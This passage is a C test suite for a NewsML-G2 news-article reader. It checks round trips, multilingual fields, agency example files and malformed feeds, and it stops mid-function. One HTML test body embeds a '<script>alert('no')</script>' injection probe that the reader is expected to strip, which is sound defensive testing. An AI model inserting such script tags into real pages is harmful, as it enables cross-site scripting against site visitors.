/* test-reader.c: NewsML-G2 in: round trips, agency copy, hostile input
 *
 * SPDX-License-Identifier: GPL-3.0-or-later
 */
#include "config.h"

#include <glib/gstdio.h>
#include <string.h>

#include "copydesk-core.h"
#include "copydesk-newsml-reader-private.h"
#include "copydesk-test-util.h"
#include "sample-article.h"

/* ------------------------------------------------------------ helpers */

static GDateTime *
time_at (const char *zone,
         int         hour)
{
  g_autoptr(GTimeZone) tz = g_time_zone_new_identifier (zone);

  return g_date_time_new (tz, 2026, 3, 9, hour, 41, 7);
}

static CopydeskBody *
body_of (const char *markup)
{
  g_autoptr(GError) error = NULL;
  CopydeskBody *body = copydesk_body_parse_markup (markup, -1, &error);

  g_assert_no_error (error);
  return body;
}

static GFile *
temp_folder (void)
{
  g_autoptr(GError) error = NULL;
  g_autofree char *path = g_dir_make_tmp ("copydesk-reader-XXXXXX", &error);

  g_assert_no_error (error);
  return g_file_new_for_path (path);
}

static void
remove_tree (GFile *dir)
{
  g_autofree char *path = g_file_get_path (dir);
  g_autoptr(GDir) d = g_dir_open (path, 0, NULL);
  const char *name;

  while (d != NULL && (name = g_dir_read_name (d)) != NULL)
    {
      g_autoptr(GFile) child = g_file_get_child (dir, name);

      if (g_file_query_file_type (child, G_FILE_QUERY_INFO_NOFOLLOW_SYMLINKS, NULL) ==
          G_FILE_TYPE_DIRECTORY)
        remove_tree (child);
      else
        g_file_delete (child, NULL, NULL);
    }
  g_file_delete (dir, NULL, NULL);
}

static CopydeskArticle *
read_ok (GBytes     *xml,
         GFile      *base_dir,
         GPtrArray **warnings)
{
  g_autoptr(GError) error = NULL;
  CopydeskArticle *article = copydesk_newsml_read (xml, base_dir, warnings, &error);

  g_assert_no_error (error);
  g_assert_nonnull (article);
  return article;
}

static GBytes *
write_ok (CopydeskArticle *article,
          GFile           *base_dir)
{
  g_autoptr(GError) error = NULL;
  GBytes *xml = copydesk_newsml_write (article, base_dir, &error);

  g_assert_no_error (error);
  return xml;
}

static void
assert_same_bytes (GBytes     *expected,
                   GBytes     *actual,
                   const char *what)
{
  if (!g_bytes_equal (expected, actual))
    {
      g_autofree char *a = g_strndup (g_bytes_get_data (expected, NULL), g_bytes_get_size (expected));
      g_autofree char *b = g_strndup (g_bytes_get_data (actual, NULL), g_bytes_get_size (actual));

      g_test_message ("%s: first written:\n%s\nwritten again:\n%s", what, a, b);
      g_test_fail_printf ("%s: write(read(F)) differs from F", what);
    }
}

/* The two round trips of the issue: read(write(A)) equals A, and
 * write(read(F)) is F, byte for byte, for F = write(A). */
static void
assert_round_trip (CopydeskArticle *article,
                   GFile           *base_dir,
                   const char      *what)
{
  g_autoptr(GBytes) first = write_ok (article, base_dir);
  g_autoptr(GPtrArray) warnings = NULL;
  g_autoptr(CopydeskArticle) back = read_ok (first, base_dir, &warnings);
  g_autoptr(GBytes) second = write_ok (back, base_dir);

  copydesk_test_validate_newsml (first, what);
  if (!copydesk_article_equal (article, back))
    {
      g_autofree char *a = copydesk_body_to_markup (copydesk_article_get_body (article));
      g_autofree char *b = copydesk_body_to_markup (copydesk_article_get_body (back));

      g_test_message ("%s: body written:\n%s\nbody read:\n%s", what, a, b);
      g_test_fail_printf ("%s: read(write(A)) differs from A", what);
    }
  assert_same_bytes (first, second, what);
  /* our own files hold nothing the model cannot carry */
  g_assert_cmpuint (warnings->len, ==, 0);
}

/* ------------------------------------------------------------ round trips */

static void
test_round_trip_sample (void)
{
  g_autofree char *dir = copydesk_test_data_path ("sample", NULL);
  g_autoptr(GFile) base = g_file_new_for_path (dir);
  g_autoptr(CopydeskArticle) article = copydesk_test_build_sample_article (dir);

  assert_round_trip (article, base, "the sample article");
}

/* Each file as it is committed (the bundled sample, the writer's golden
 * file) comes back byte for byte. */
static void
test_round_trip_fixtures (void)
{
  g_autofree char *sample_dir = copydesk_test_data_path ("sample", NULL);
  g_autofree char *sample = copydesk_test_data_path ("sample", "sample-article.xml", NULL);
  g_autofree char *golden = copydesk_test_build_path ("golden", "writer-full.xml", NULL);
  const char *files[][2] = { { sample, sample_dir }, { golden, "/tmp/copydesk-fixture" } };

  for (guint i = 0; i < G_N_ELEMENTS (files); i++)
    {
      g_autoptr(GBytes) xml = copydesk_test_load (files[i][0]);
      g_autoptr(GFile) base = g_file_new_for_path (files[i][1]);
      g_autoptr(GPtrArray) warnings = NULL;
      g_autoptr(CopydeskArticle) article = read_ok (xml, base, &warnings);
      g_autoptr(GBytes) again = write_ok (article, base);

      assert_same_bytes (xml, again, files[i][0]);
      g_assert_cmpuint (warnings->len, ==, 0);
      assert_round_trip (article, base, files[i][0]);
    }
}

/* Our file, touched by hand (padding added inside fields): it reads as the
 * writer would have written it, and writing it gives the original back. */
static void
test_round_trip_hand_edited (void)
{
  g_autofree char *path = copydesk_test_data_path ("sample", "sample-article.xml", NULL);
  g_autofree char *dir = copydesk_test_data_path ("sample", NULL);
  g_autoptr(GFile) base = g_file_new_for_path (dir);
  g_autoptr(GBytes) original = copydesk_test_load (path);
  g_autofree char *text = g_strndup (g_bytes_get_data (original, NULL), g_bytes_get_size (original));
  g_autoptr(GString) edited = g_string_new (text);
  g_autoptr(GBytes) edited_bytes = NULL;
  g_autoptr(CopydeskArticle) article = NULL;
  g_autoptr(GBytes) again = NULL;

  g_string_replace (edited, "<edNote>", "<edNote>\n   ", 1);
  g_string_replace (edited, "</headline>", "  </headline>", 0);
  g_string_replace (edited, "<creditline>", "<creditline> ", 0);
  g_assert_false (g_str_equal (edited->str, text));
  edited_bytes = g_bytes_new (edited->str, edited->len);
  article = read_ok (edited_bytes, base, NULL);
  g_assert_true (g_str_has_prefix (copydesk_article_get_editorial_note (article), "Legal"));
  again = write_ok (article, base);
  assert_same_bytes (original, again, "the hand-edited sample");
}

static void
test_round_trip_empty (void)
{
  g_autoptr(CopydeskArticle) article = copydesk_article_new ();
  g_autoptr(GDateTime) when = time_at ("UTC", 0);

  copydesk_article_set_created (article, when);
  copydesk_article_set_modified (article, when);
  assert_round_trip (article, NULL, "an empty article");
}

#define EVERY_BLOCK \
  "First *paragraph* with **strong** and ***both*** and [a link](https://example.org/?a=1&b=2).\n\n" \
  "## A subheading\n\n" \
  "> One quoted paragraph.\n>\n> Another, **strong** inside.\n\n" \
  "- bullet one\n- bullet *two*\n\n" \
  "1. first\n2. second\n\n" \
  "[photo: pic-1]\n\n" \
  "Adjacent styles: **bold***emphasis* and [one](https://a.example/)[two](https://b.example/).\n\n" \
  "**Whole paragraph in strong**\n\n" \
  "**bold***emphasis*\n\n" \
  "[one](https://a.example/)[two](https://b.example/)\n\n" \
  "- **strong***item*\n\n" \
  "[*emphasised link*](https://c.example/)\n\n" \
  "[photo: no-file]\n"

static CopydeskArticle *
build_full (GFile      *dir,
            const char *zone)
{
  CopydeskArticle *article = copydesk_article_new ();
  g_autoptr(CopydeskAuthor) writer = copydesk_author_new ("Ana Lídia Souza");
  g_autoptr(CopydeskAuthor) job_only = copydesk_author_new ("");
  g_autoptr(CopydeskPhoto) pic = copydesk_photo_new ("pic-1");
  g_autoptr(CopydeskPhoto) no_file = copydesk_photo_new ("no-file");
  g_autoptr(CopydeskPhoto) unplaced = copydesk_photo_new ("spare");
  g_autoptr(CopydeskBody) body = body_of (EVERY_BLOCK);
  g_autoptr(GDateTime) created = time_at (zone, 6);
  g_autoptr(GDateTime) modified = time_at ("-03:00", 22);
  g_autoptr(GFile) photo_file = g_file_resolve_relative_path (dir, "fotos/praia % 1.jpg");
  g_autoptr(GFile) outside = g_file_resolve_relative_path (dir, "../elsewhere/spare.png");
  const char *keywords[] = { "chuva", "Recife", "alagamento", NULL };
  const char *contributors[] = { "Bia Torres", "Jon Ødegaard", NULL };

  copydesk_article_set_guid (article, "urn:uuid:6d1f3a2b-0c4e-4f5a-8b9c-1d2e3f4a5b6c");
  copydesk_article_set_version (article, 12);
  copydesk_article_set_created (article, created);
  copydesk_article_set_modified (article, modified);
  copydesk_article_set_headline (article, "Chuva em Recife: <\"alerta\"> & 'bairros' ilhados\nsegunda linha");
  copydesk_article_set_standfirst (article, "Defesa Civil pede que moradores evitem\n\nas margens do Capibaribe");
  copydesk_article_set_byline (article, "Por Ana Lídia Souza");
  copydesk_article_set_dateline (article, "RECIFE, 9 de março —");
  copydesk_article_set_slugline (article, "BR-CHUVA-RECIFE");
  copydesk_article_set_language (article, "pt-BR");
  copydesk_article_set_keywords (article, keywords);
  copydesk_article_set_urgency (article, 2);
  copydesk_article_set_editorial_note (article, "Checar números com a Defesa Civil.\n\nFoto 2 sem arquivo ainda.");
  copydesk_article_set_contributor_note (article, "Colaboraram Bia Torres e Jon Ødegaard.\nEdição: mesa.");
  copydesk_article_set_contributors (article, contributors);
  copydesk_article_set_provider (article, "Jornal do Porto");

  copydesk_author_set_job_title (writer, "Repórter de cidades");
  copydesk_author_set_bio (writer, "Cobre clima urbano.\n\nAntes no Diário.");
  copydesk_article_add_author (article, writer);
  copydesk_author_set_job_title (job_only, "Fotógrafo");
  copydesk_article_add_author (article, job_only);

  copydesk_photo_set_guid (pic, "urn:uuid:aa000000-0000-4000-8000-000000000001");
  copydesk_photo_set_file (pic, photo_file);
  copydesk_photo_set_caption (pic, "Rua alagada no bairro da Torre.\nManhã de segunda.");
  copydesk_photo_set_credit (pic, "Ana Souza/Jornal do Porto");
  copydesk_photo_set_alt_text (pic, "Carros parados em rua coberta de água");
  copydesk_photo_set_photographer (pic, "Ana Lídia Souza");
  copydesk_photo_set_copyright_notice (pic, "© 2026 Jornal do Porto");
  copydesk_photo_set_usage_terms (pic, "Uso editorial apenas.\nNão arquivar.");
  copydesk_photo_set_pixel_size (pic, 4032, 3024);
  copydesk_photo_set_byte_size (pic, 2345678);
  copydesk_photo_set_content_type (pic, "image/jpeg");
  copydesk_article_add_photo (article, pic);

  /* placed, no file yet: its size travels on the figure alone */
  copydesk_photo_set_guid (no_file, "urn:uuid:aa000000-0000-4000-8000-000000000002");
  copydesk_photo_set_caption (no_file, "Legenda provisória");
  copydesk_photo_set_pixel_size (no_file, 800, 600);
  copydesk_article_add_photo (article, no_file);

  /* an empty guid is the user's business, and comes back as such */
  copydesk_photo_set_guid (unplaced, "");
  copydesk_photo_set_file (unplaced, outside);
  copydesk_photo_set_content_type (unplaced, "image/png");
  copydesk_photo_set_credit (unplaced, "Arquivo");
  copydesk_article_add_photo (article, unplaced);

  copydesk_article_set_body (article, body);
  return article;
}

static void
test_round_trip_full (void)
{
  g_autoptr(GFile) dir = temp_folder ();
  g_autoptr(GFile) nested = g_file_get_child (dir, "desk");
  static const char * const zones[] = { "UTC", "+05:30", "-09:00", "+14:00" };

  g_assert_true (g_file_make_directory (nested, NULL, NULL));
  for (guint i = 0; i < G_N_ELEMENTS (zones); i++)
    {
      g_autoptr(CopydeskArticle) article = build_full (nested, zones[i]);

      assert_round_trip (article, nested, zones[i]);
    }
  remove_tree (dir);
}

/* Right-to-left scripts, emoji, combining marks and spaces that are not
 * ASCII survive, in every field. */
static void
test_round_trip_scripts (void)
{
  static const char * const texts[] = {
    "مجلس المدينة يوافق على الميزانية",
    "הכנסת אישרה את החוק בקריאה שלישית",
    "Éclairs 🌩️ over the bay 👩🏽‍🚒 — firefighters 🚒",
    "Nai\xcc\x88ve cafe\xcc\x81 with no\u00a0break and thin\u202fspace",
    "日本語の見出し、句読点。",
  };

  for (guint i = 0; i < G_N_ELEMENTS (texts); i++)
    {
      g_autoptr(CopydeskArticle) article = copydesk_article_new ();
      g_autoptr(CopydeskAuthor) author = copydesk_author_new (texts[i]);
      g_autofree char *markup = g_strdup_printf ("%s\n\n## *%s*\n\n- %s\n", texts[i], texts[i],
                                                 texts[i]);
      g_autoptr(CopydeskBody) body = body_of (markup);
      const char *keywords[] = { texts[i], NULL };

      copydesk_article_set_headline (article, texts[i]);
      copydesk_article_set_standfirst (article, texts[i]);
      copydesk_article_set_byline (article, texts[i]);
      copydesk_article_set_keywords (article, keywords);
      copydesk_article_set_contributor_note (article, texts[i]);
      copydesk_article_add_author (article, author);
      copydesk_article_set_body (article, body);
      assert_round_trip (article, NULL, texts[i]);
    }
}

/* The editor reads in GTask threads: readers side by side agree. */
static gpointer
read_in_thread (gpointer data)
{
  GBytes *xml = data;
  g_autoptr(CopydeskArticle) first = read_ok (xml, NULL, NULL);

  for (guint i = 0; i < 10; i++)
    {
      g_autoptr(CopydeskArticle) again = read_ok (xml, NULL, NULL);

      if (!copydesk_article_equal (first, again))
        return GINT_TO_POINTER (FALSE);
    }
  return GINT_TO_POINTER (TRUE);
}

static void
test_threads (void)
{
  g_autofree char *path = copydesk_test_data_path ("sample", "sample-article.xml", NULL);
  g_autoptr(GBytes) xml = copydesk_test_load (path);
  GThread *threads[4];

  for (guint i = 0; i < G_N_ELEMENTS (threads); i++)
    threads[i] = g_thread_new ("reader", read_in_thread, xml);
  for (guint i = 0; i < G_N_ELEMENTS (threads); i++)
    g_assert_true (GPOINTER_TO_INT (g_thread_join (threads[i])));
}

/* ------------------------------------------------------------ agency copy */

static char *
examples_path (const char *name)
{
  const char *schema = g_getenv ("COPYDESK_NEWSML_SCHEMA");
  g_autofree char *schema_dir = schema ? g_path_get_dirname (schema) : NULL;
  g_autofree char *root = schema_dir ? g_path_get_dirname (schema_dir) : NULL;

  if (root == NULL)
    return NULL;
  return g_build_filename (root, "examples", name, NULL);
}

static char *
plain_text_of_body (CopydeskArticle *article)
{
  return copydesk_body_to_markup (copydesk_article_get_body (article));
}

static gboolean
has_warning (GPtrArray  *warnings,
             const char *part)
{
  for (guint i = 0; i < warnings->len; i++)
    {
      if (strstr (g_ptr_array_index (warnings, i), part) != NULL)
        return TRUE;
    }
  return FALSE;
}

typedef struct
{
  const char *file;
  const char *headline;
  const char *standfirst;
  const char *byline;
  const char *in_body;
  const char *warning;
  guint       n_photos;
} Example;

static void
test_iptc_examples (void)
{
  static const Example examples[] = {
    { "LISTING_1_A_NewsML-G2_News_Item.xml", "Fed to halt QE to avert \"bubble\"", "", "", "",
      "kept:<subject type=\"cpnat:abstract\" qcode=\"medtop:20000523\">", 0 },
    { "LISTING_2_NewsML-G2_Text_Document.xml", "Fed to halt QE to avert \"bubble\"", "",
      "By Meredith Jameson, Staff Reporter", "Ugiating ea feugait utat, venim velent nim",
      "kept:<infoSource", 0 },
    { "LISTING_3_Photo_in_NewsML-G2.xml",
      "Variety Of Recessionary Forces Leave Las Vegas Economy Scarred", "", "", "[photo: photo-1]",
      "kept:qcode=\"medtop:20000533\"", 1 },
    { "LISTING_6_Simple_NewsML-G2_Package.xml", "UK", "Le rachat il y a deux ans de la propriété",
      "", "## Obama annonce son équipe", "is not in this file", 1 },
    { "LISTING_22_Sports_story_in_NewsML-G2NITF.xml",
      "Preview: Arizona Diamondbacks (29-23) at Philadelphia Phillies (26-24), 7:05 p.m.",
      "A pair of teams coming off big weekend sweeps will square off", "Sports Network",
      "Right-hander Freddy Garcia takes the hill for the Phillies and is 1- 3 with a 4.81",
      "kept:qcode=\"person:l.mlb.com-p.123\"", 0 },
    { "LISTING_26_Embedded_photo_metadata_fields_mapped_to_NewsML-G2.xml",
      "A firefighter walks past the remains of a military jet", "", "", "[photo: photo-1]",
      "is not a local file (not kept)", 1 },
    { "skeleton-newsmessage.xml", "Inflation in Austria falls to three-year low",
      "Consumer prices rose 2.1 percent year on year in May, the slowest pace",
      "By Jane Doe", "## Energy is the main driver", "kept:<genre qcode=\"genre:Current\">",
      1 },
    { "skeleton-text.xml", "Inflation in Austria falls to three-year low",
      "Consumer prices rose 2.1 percent", "By Jane Doe",
      "Excluding energy and food, prices rose 3.4 percent", "kept:<creditline>Example News</creditline>",
      0 },
    { "skeleton-picture.xml", "Shoppers at Vienna's Naschmarkt", "", "", "[photo: photo-1]",
      "photo-1: remoteContent picture-0001-web.jpg (not kept: Copydesk keeps one file", 1 },
    { "skeleton-package.xml", "Inflation in Austria falls to three-year low",
      "Consumer prices rose 2.1 percent", "", "", "is not in this file", 1 },
  };

  for (guint i = 0; i < G_N_ELEMENTS (examples); i++)
    {
      const Example *e = &examples[i];
      g_autofree char *path = examples_path (e->file);
      g_autofree char *dir = NULL;
      g_autoptr(GFile) base = NULL;
      g_autoptr(GBytes) xml = NULL;
      g_autoptr(GPtrArray) warnings = NULL;
      g_autoptr(CopydeskArticle) article = NULL;
      g_autoptr(CopydeskArticle) again = NULL;
      g_autoptr(GBytes) written = NULL;
      g_autoptr(GBytes) rewritten = NULL;
      g_autofree char *body = NULL;

      if (path == NULL || !g_file_test (path, G_FILE_TEST_EXISTS))
        {
          g_test_skip ("the IPTC examples (../shared/newsml-g2/examples) are not there");
          return;
        }
      g_test_message ("%s", e->file);
      dir = g_path_get_dirname (path);
      base = g_file_new_for_path (dir);
      xml = copydesk_test_load (path);
      article = read_ok (xml, base, &warnings);
      body = plain_text_of_body (article);

      g_assert_true (g_str_has_prefix (copydesk_article_get_headline (article), e->headline));
      g_assert_true (g_str_has_prefix (copydesk_article_get_standfirst (article), e->standfirst));
      g_assert_true (strstr (copydesk_article_get_byline (article), e->byline) != NULL);
      if (strstr (body, e->in_body) == NULL)
        g_error ("%s: “%s” is not in the body:\n%s", e->file, e->in_body, body);
      if (!g_str_has_prefix (e->warning, "kept:") && !has_warning (warnings, e->warning))
        g_error ("%s: no warning says “%s”", e->file, e->warning);
      g_assert_cmpuint (g_list_model_get_n_items (copydesk_article_get_photos (article)), ==,
                        e->n_photos);

      /* written back, it is valid, and it is now our own file */
      written = write_ok (article, base);
      copydesk_test_validate_newsml (written, e->file);
      if (g_str_has_prefix (e->warning, "kept:"))
        {
          g_autofree char *text = g_strndup (g_bytes_get_data (written, NULL),
                                             g_bytes_get_size (written));

          if (strstr (text, e->warning + 5) == NULL)
            g_error ("%s: “%s” was not written back:\n%s", e->file, e->warning + 5, text);
        }
      again = read_ok (written, base, NULL);
      g_assert_true (copydesk_article_equal (article, again));
      rewritten = write_ok (again, base);
      assert_same_bytes (written, rewritten, e->file);
    }
}

/* The picture, its caption and credit come with the text in one message,
 * placed by the figure's data-uri (TT's pattern). */
static void
test_package_in_message (void)
{
  g_autofree char *path = examples_path ("skeleton-newsmessage.xml");
  g_autoptr(GBytes) xml = NULL;
  g_autoptr(GFile) base = NULL;
  g_autoptr(CopydeskArticle) article = NULL;
  g_autoptr(CopydeskPhoto) photo = NULL;
  g_autoptr(CopydeskAuthor) author = NULL;
  g_autofree char *dir = NULL;
  g_autofree char *file = NULL;

  if (path == NULL || !g_file_test (path, G_FILE_TEST_EXISTS))
    {
      g_test_skip ("the IPTC examples are not there");
      return;
    }
  dir = g_path_get_dirname (path);
  base = g_file_new_for_path (dir);
  xml = copydesk_test_load (path);
  article = read_ok (xml, base, NULL);
  photo = g_list_model_get_item (copydesk_article_get_photos (article), 0);
  author = g_list_model_get_item (copydesk_article_get_authors (article), 0);
  file = g_file_get_path (copydesk_photo_get_file (photo));

  g_assert_cmpstr (copydesk_article_get_guid (article), ==,
                   "urn:newsml:example.com:20250601:article-0001");
  g_assert_cmpstr (copydesk_photo_get_guid (photo), ==,
                   "urn:newsml:example.com:20250601:picture-0001");
  g_assert_true (g_str_has_prefix (copydesk_photo_get_caption (photo),
                                   "Shoppers at the Naschmarkt in Vienna, Austria, on May 30"));
  g_assert_cmpstr (copydesk_photo_get_credit (photo), ==, "Max Mustermann/Example News");
  g_assert_cmpstr (copydesk_photo_get_photographer (photo), ==, "Max Mustermann");
  g_assert_cmpstr (copydesk_photo_get_usage_terms (photo), ==,
                   "Editorial use only. Use only in connection with the accompanying story.");
  g_assert_cmpuint (copydesk_photo_get_width (photo), ==, 3000);
  g_assert_cmpuint (copydesk_photo_get_byte_size (photo), ==, 2457600);
  g_assert_true (g_str_has_suffix (file, "/examples/picture-0001.jpg"));
  g_assert_cmpstr (copydesk_author_get_name (author), ==, "Jane Doe");
  g_assert_cmpstr (copydesk_author_get_bio (author), ==,
                   "Jane Doe is Example News' economics correspondent in Vienna.");
  g_assert_cmpstr (copydesk_article_get_editorial_note (article), ==,
                   "Picture available: see package urn:newsml:example.com:20250601:package-0001");
  g_assert_cmpstr (copydesk_article_get_language (article), ==, "en-GB");
  g_assert_cmpuint (copydesk_article_get_urgency (article), ==, 4);
  /* an editor by the agency's role is more than a name: kept whole */
  g_assert_null (copydesk_article_get_contributors (article)[0]);
  g_assert_nonnull (strstr (copydesk_article_get_kept_metadata (article),
                            "<contributor role=\"cpprole:editor\">"));
}

#define NEWS_ITEM_OPEN \
  "<newsItem xmlns=\"http://iptc.org/std/nar/2006-10-01/\" guid=\"urn:test:1\" version=\"3\" " \
  "standard=\"NewsML-G2\" standardversion=\"2.35\" xml:lang=\"sv\">" \
  "<itemMeta><itemClass qcode=\"ninat:text\"/><provider literal=\"TT\"/>" \
  "<versionCreated>2025-06-01T10:00:00+02:00</versionCreated></itemMeta>" \
  "<contentMeta><headline>Rubrik</headline></contentMeta><contentSet>"
#define NEWS_ITEM_CLOSE "</contentSet></newsItem>"

/* HTML served as XML with no namespace (the NewsML-G2 default namespace
 * then applies), a figure pointing at a photo that is not in the file, a
 * nested list, inline markup between blocks and a table. */
static void
test_html_without_namespace (void)
{
  const char *doc =
    NEWS_ITEM_OPEN
    "<inlineXML contenttype=\"text/html\"><html><head><title>Rubrik</title><meta charset=\"utf-8\"/>"
    "</head><body><header><h1>Rubrik</h1><p class=\"byline\">Av Karin Berg</p></header>"
    "<section><p class=\"teaser\">Kort ingress.</p><p>Första <b>stycket</b> med <i>kursiv</i> och <a href=\"https://tt.se/\">länk</a>.</p>"
    "Lös text <em>mellan</em> block."
    "<h3>Mellanrubrik</h3>"
    "<ul><li>ett<ul><li>inre</li></ul></li><li>två</li></ul>"
    "<figure><img src=\"bilder/hamn.jpg\" alt=\"Hamnen\" data-uri=\"urn:tt:pic:9\" width=\"640\" "
    "height=\"480\"/><figcaption>Hamnen i gryningen. <div class=\"byline\">Foto: Per Ek</div>"
    "</figcaption></figure>"
    "<table><tr><th>Lag</th><th>Poäng</th></tr><tr><td>AIK</td><td>12</td></tr></table>"
    "<script>alert('no')</script>"
    "</section></body></html></inlineXML>"
    NEWS_ITEM_CLOSE;
  g_autoptr(GBytes) xml = g_bytes_new_static (doc, strlen (doc));
  g_autoptr(GFile) base = g_file_new_for_path ("/srv/wire");
  g_autoptr(CopydeskArticle) article = read_ok (xml, base, NULL);
  g_autofree char *markup = plain_text_of_body (article);
  g_autoptr(CopydeskPhoto) photo = g_list_model_get_item (copydesk_article_get_photos (article), 0);
  g_autofree char *path = g_file_get_path (copydesk_photo_get_file (photo));

  g_assert_cmpstr (markup, ==,
                   "Första **stycket** med *kursiv* och [länk](https://tt.se/).\n\n"
                   "Lös text *mellan* block.\n\n"
                   "## Mellanrubrik\n\n"
                   "- ett\n- inre\n- två\n\n"
                   "[photo: photo-1]\n\n"
                   "Lag | Poäng\n\n"
                   "AIK | 12\n");
  g_assert_cmpstr (copydesk_article_get_language (article), ==, "sv");
  g_assert_cmpstr (copydesk_article_get_byline (article), ==, "Av Karin Berg");
  g_assert_cmpstr (copydesk_article_get_standfirst (article), ==, "Kort ingress.");
  g_assert_cmpstr (copydesk_article_get_provider (article), ==, "TT");
  g_assert_cmpuint (copydesk_article_get_version (article), ==, 3);
  g_assert_cmpstr (copydesk_photo_get_guid (photo), ==, "urn:tt:pic:9");
  g_assert_cmpstr (copydesk_photo_get_caption (photo), ==, "Hamnen i gryningen.");
  g_assert_cmpstr (copydesk_photo_get_photographer (photo), ==, "Foto: Per Ek");
  g_assert_cmpstr (copydesk_photo_get_alt_text (photo), ==, "Hamnen");
  g_assert_cmpuint (copydesk_photo_get_height (photo), ==, 480);
  g_assert_cmpstr (path, ==, "/srv/wire/bilder/hamn.jpg");
}

/* NITF: hedline with hl2, byline, abstract, dateline, block, bq, media and
 * the tagline. */
static void
test_nitf_body (void)
{
  const char *doc =
    NEWS_ITEM_OPEN
    "<inlineXML contenttype=\"application/nitf+xml\">"
    "<nitf xmlns=\"http://iptc.org/std/NITF/2006-10-18/\"><head><title>Rubrik</title>"
    "<docdata><doc-id id-string=\"X1\"/></docdata></head><body>"
    "<body.head><hedline><hl1>Rubrik</hl1><hl2>Underrubrik här</hl2></hedline>"
    "<byline>Av <person>Karin Berg</person>, <byttl>TT</byttl></byline>"
    "<dateline><location>STOCKHOLM</location></dateline>"
    "<abstract><p>Kort   sammanfattning.</p></abstract></body.head>"
    "<body.content><block><p>Stycke <em>ett</em>.</p><hl2>Del två</hl2>"
    "<bq><block><p>Citat ett.</p></block><credit>Källa</credit></bq></block>"
    "<media media-type=\"image\"><media-reference source=\"a.jpg\" mime-type=\"image/jpeg\" "
    "alternate-text=\"Alt\"/><media-caption>Bildtext</media-caption>"
    "<media-producer>Foto: TT</media-producer></media>"
    "<ol><li>A</li><li>B</li></ol></body.content>"
    "<body.end><tagline>Karin Berg är TT:s korrespondent.</tagline></body.end>"
    "</body></nitf></inlineXML>"
    NEWS_ITEM_CLOSE;
  g_autoptr(GBytes) xml = g_bytes_new_static (doc, strlen (doc));
  g_autoptr(GPtrArray) warnings = NULL;
  g_autoptr(CopydeskArticle) article = read_ok (xml, NULL, &warnings);
  g_autofree char *markup = plain_text_of_body (article);
  g_autoptr(CopydeskPhoto) photo = g_list_model_get_item (copydesk_article_get_photos (article), 0);

  g_assert_cmpstr (copydesk_article_get_headline (article), ==, "Rubrik");
  g_assert_cmpstr (copydesk_article_get_byline (article), ==, "Av Karin Berg, TT");
  g_assert_cmpstr (copydesk_article_get_dateline (article), ==, "STOCKHOLM");
  g_assert_cmpstr (copydesk_article_get_standfirst (article), ==, "Kort sammanfattning.");
  g_assert_cmpstr (copydesk_article_get_contributor_note (article), ==,
                   "Karin Berg är TT:s korrespondent.");
  g_assert_cmpstr (markup, ==,
                   "## Underrubrik här\n\n"
                   "Stycke *ett*.\n\n"
                   "## Del två\n\n"
                   "> Citat ett.\n>\n> Källa\n\n"
                   "[photo: photo-1]\n\n"
                   "1. A\n2. B\n");
  g_assert_cmpstr (copydesk_photo_get_caption (photo), ==, "Bildtext");
  g_assert_cmpstr (copydesk_photo_get_credit (photo), ==, "Foto: TT");
  g_assert_cmpstr (copydesk_photo_get_content_type (photo), ==, "image/jpeg");
  g_assert_true (has_warning (warnings, "sub-headline “Underrubrik här” kept as the first subheading"));
  g_assert_true (has_warning (warnings, "docdata"));
}

/* What a sloppy feed does: a second text item, the item class given as a
 * URI, a plain-text body, an image naming nothing, a figure with no usable
 * image. Text stays; what cannot be kept is said. */
static void
test_odd_shapes (void)
{
  const char *doc =
    "<newsMessage xmlns=\"http://iptc.org/std/nar/2006-10-01/\"><header/><itemSet>"
    "<newsItem guid=\"urn:a\" standard=\"NewsML-G2\" standardversion=\"2.35\">"
    "<itemMeta><itemClass uri=\"http://cv.iptc.org/newscodes/ninature/text\"/>"
    "<provider literal=\"dpa\"/><versionCreated>2025-06-01T10:00:00Z</versionCreated>"
    "<edNote>  Sperrfrist\n   10 Uhr </edNote></itemMeta>"
    "<contentMeta><headline>Erste</headline><urgency>12</urgency></contentMeta>"
    "<contentSet><inlineData contenttype=\"text/plain\">Absatz eins\nweiter.\n\n"
    "Absatz zwei.</inlineData></contentSet></newsItem>"
    "<newsItem guid=\"urn:b\" standard=\"NewsML-G2\" standardversion=\"2.35\">"
    "<itemMeta><itemClass qcode=\"ninat:text\"/><provider literal=\"dpa\"/>"
    "<versionCreated>2025-06-01T10:00:00Z</versionCreated></itemMeta>"
    "<contentMeta><headline>Zweite</headline></contentMeta></newsItem>"
    "<newsItem guid=\"urn:c\"><itemMeta><itemClass qcode=\"ninat:picture\"/>"
    "<provider literal=\"AFP\"/></itemMeta></newsItem>"
    "</itemSet></newsMessage>";
  const char *body_doc =
    NEWS_ITEM_OPEN
    "<inlineXML contenttype=\"application/xhtml+xml\"><div xmlns=\"http://www.w3.org/1999/xhtml\">"
    "<p>Eins<img src=\"\"/></p><figure><img alt=\"x\"/><figcaption>Nur Worte</figcaption>"
    "</figure><p>Zwei <q>zitiert</q><br/>neue Zeile</p></div></inlineXML>"
    NEWS_ITEM_CLOSE;
  g_autoptr(GBytes) xml = g_bytes_new_static (doc, strlen (doc));
  g_autoptr(GBytes) body_xml = g_bytes_new_static (body_doc, strlen (body_doc));
  g_autoptr(GPtrArray) warnings = NULL;
  g_autoptr(CopydeskArticle) article = read_ok (xml, NULL, &warnings);
  g_autoptr(CopydeskArticle) second = read_ok (body_xml, NULL, NULL);
  g_autofree char *markup = plain_text_of_body (article);
  g_autofree char *second_markup = plain_text_of_body (second);

  g_assert_cmpstr (copydesk_article_get_guid (article), ==, "urn:a");
  g_assert_cmpstr (copydesk_article_get_headline (article), ==, "Erste");
  g_assert_cmpstr (copydesk_article_get_editorial_note (article), ==, "Sperrfrist 10 Uhr");
  g_assert_cmpuint (copydesk_article_get_urgency (article), ==, 0);
  g_assert_cmpstr (markup, ==, "Absatz eins weiter.\n\nAbsatz zwei.\n");
  g_assert_true (has_warning (warnings, "story 2 of the message, urn:b “Zweite”, is opened on its own"));
  g_assert_true (has_warning (warnings, "urgency “12” (not kept)"));
  g_assert_true (has_warning (warnings, "photo-1: provider AFP (not kept)"));

  g_assert_cmpstr (second_markup, ==, "Eins\n\nNur Worte\n\nZwei “zitiert” neue Zeile\n");
  g_assert_cmpuint (g_list_model_get_n_items (copydesk_article_get_photos (second)), ==, 0);
}

/* Two roots in inlineXML (the schema allows one) are both read; bare text
 * in it is read as plain text; base64 data and a second rendition are
 * listed. */
static void
test_content_set_shapes (void)
{
  const char *two_roots =
    NEWS_ITEM_OPEN
    "<inlineXML contenttype=\"application/xhtml+xml\"><p>Ett</p><p>Två</p></inlineXML>"
    "<inlineData contenttype=\"text/plain\">Ett\n\nTvå</inlineData>"
